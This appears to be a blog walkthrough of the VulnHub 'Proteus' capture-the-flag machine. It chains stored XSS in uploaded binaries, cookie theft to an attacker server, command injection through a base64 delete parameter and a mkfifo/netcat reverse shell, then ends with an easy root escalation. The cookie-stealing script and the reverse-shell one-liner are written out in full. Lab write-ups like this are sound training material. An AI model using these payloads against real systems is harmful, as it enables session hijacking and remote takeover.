Proteus Pwn4g3

Hi Everyone,

Over this blogpost, I shall write about how I cracked a recently hosted challenge on vulnhub named "Proteus".

Looking at the machine description over Vulnhub:

The machine simulates an environment where you can upload executable files and performs malware analysis over it.

I download the OVA and setup my kali and vulnerable machine on the same network.

First and foremost, network discovery:

So the IP I shall be targeting is

I ran nmap and two services stand out:
1. ssh ==> port 22
2. http ==> port 80

I tried checking over ssh but it seems only key based login is allowed.

I shifted my focus over to port:80

Immediately striking are two things:

1. File upload feature
2. Login functionality

It seemed that the file upload is based on mime type and only executable file or sharedlib types are supported for uploads.

First I tried uploading a normal file and as an output we get binary analysis of the file.
Checking the output I see that all the ascii strings inside the binary file are rendered as is on the webpage.This could be the first foothold. Probably html special characters are not escaped!

I immediately inject the following code into a binary file:

echo "<b>I am here</b>" >> bFile

bFIle is the binary/executable file

and dang! we have html rendered on page :D

So now we have a clear case of XSS so my next thought was if there is XSS, could there be another client visiting the page other than myself!

I uploaded another file and this time with an iframe injection such that I points to my evil server:

echo "<iframe src='http://myIP'></iframe>" >> binaryFile

And I upload this binaryFile.

On my local machine I keep monitoring my apache access logs and dang! second foothold!

I clearly see PhantomJS web automation trying to access my apache server from Proteus machine.

Now connecting the dots, I see myself logged as anonymous user and if there is another person visiting the webiste locally on the Proteus machine, could it be the site administrator??

Time for cookie stealing again thanks to XSS!!

I inject the following payload to the binary file:

echo "<script>document.write('<img src=\"http://myIP?c=' + document.cookie + '\" />')</script>" >> binaryFile

And I wait quitely over my evil server (evil Laugh hehehe)

And voila! cookie stolen!

I fire my burp, intercept the login request and swap the cookie value and dang!
Logged in as "malwareadm"

Okay so till now its some good progress and I am pretty satisfied but whats next??

The only additional functionality I notice is that this account has the ability to delete uploaded samples.

I run dirbuster/gobuster with the admin cookie included but no more pages, no more functionality apart from this!

This was where I hit wall and couldn't think further.

The only thing that stood out was the deletion function.I noticed that while deleting a file, the URL was as: http://proteusIP/delete/<base64-value>

This base64 encoded value when decoded gave a timestamp sort of number with a "." character at the end.

e.g. : "54752987376." (excluding quotes)

Here I spent ages what to do next!

[Screenshot of the filenames which are stored in Proteus as samples]

Finally by a hint from my friend, I was pointed to a direction to fuzz the base64 decoded value so I started putting random stuff but got 404's instead.

Next I tried keeping a valid base64 encoded value but appending some characters and finally encoding it with linux command

"" --> dint work!!

"134253687542id" --> dint damn work!!

"45324599572.;id" --> dang!! This worked.

(note that all the numeric values shown above pertain to valid file names, nonexistent file names wont work!)I got id = 33 (www-data) user and this is where command injection lies!!

I wasted no time by appending the netcat reverse shell but damn! that didnt work as the proteus netcat does not have "-e" option so what to do!

I appended the following to the file name I wanted to delete:

"246526752853.;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1234 >/tmp/f"

The above value was base64 encoded and the request looked like below:


On the other hand, my netcat listener was fired up and dang!
Shell is OBTAINED :D

Next step: Privilege Escalation

So, now we have an interactive shell and enumerating the user I see folder malwareadm in /home directory.

Under this folder is the js file which is automating the page visiting activity of malwareadm.
Reading this file we can see the URL encodedpassword of malwareadm

I try loggin in as malwareadm and am successful!

Checking permission of malwareadm it seems it is a part of adm so just doing a sudo -i made me a root user!!


The flag is under the /root folder and is a png file:

The privilege escalation was kinda anti-climatic. I was anticipating more of a challenge there.

My thoughts:

I clearly had lost directing once I logged in asmalwareadm and even though the delete functionality stood out, I couldn't just think what to do next of it.

The machine provided a good level of challenge to me and I was quite thrilled and satisfiedas I completed this challenge.

Thanks ivanvza for creating thisvulnerable machine and thanks to vulnhub for hostingit.



Popular posts from this blog

Automating backdoor creation for PEfiles

0wn!ng LazySysAdmin: 1